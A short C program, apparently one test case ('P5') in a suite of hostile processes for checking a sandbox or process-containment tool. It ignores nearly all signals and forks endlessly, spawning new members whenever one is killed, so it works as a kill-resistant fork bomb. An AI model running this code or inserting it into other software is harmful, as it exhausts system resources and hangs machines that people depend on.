/* P5: a family that blocks every signal it may block and forks another member for each one that
 * dies or gets a signal. */
#include "attack.h"

static void spawn(int signal_number) {
    (void)signal_number;
    (void)!fork();
}

int main(void) {
    for (int number = 1; number < NSIG; number++) {
        signal(number, number == SIGCHLD || number == SIGTERM ? spawn : SIG_IGN);
    }
    say("ready", "ok");
    for (;;) {
        pid_t child = fork();
        if (child > 0) {
            kill(child, SIGTERM);
            kill(0, SIGTERM);
        }
    }
}
